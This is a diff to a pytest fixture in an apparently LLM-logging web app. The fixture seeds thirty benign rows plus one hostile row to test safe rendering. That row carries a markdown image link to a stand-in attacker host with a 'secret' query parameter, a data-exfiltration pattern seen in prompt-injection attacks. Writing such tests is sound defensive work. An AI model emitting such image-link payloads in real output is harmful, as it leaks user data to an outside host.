@@ -12,6 +12,7 @@ from potstill.server.web.words import words_in
 from tests.report.content import HOSTILE
 from tests.server.web.chromium import AXE, DESK, PHONE, chromium
 from tests.server.web.pages import all_pages
+from tests.server.web.storing import store
 
 
 @pytest.fixture(scope="module")
@@ -106,15 +107,13 @@ def test_the_sentences_of_hostile_rows_stay_sentences(browser, made_up):
 
 
 @pytest.fixture
-def stored(server, client):
+def stored(server):
     """Thirty rows of a closed set, and a hostile one on top."""
     for i in range(30):
         text = f"{'red' if i % 2 else 'dull'} thing {i}"
-        client.chat.completions.create(
-            model="big", messages=[{"role": "user", "content": text}], store=True, metadata={"task": "colour"}
-        )
+        store(server, text, {"task": "colour"})
     words = [{"role": "user", "content": f"red {' '.join(HOSTILE[:2])} ![](http://evil.invalid/?q=secret)"}]
-    client.chat.completions.create(model="big", messages=words, store=True, metadata={"task": HOSTILE[0]})
+    store(server, words, {"task": HOSTILE[0]})
     return server
 
 
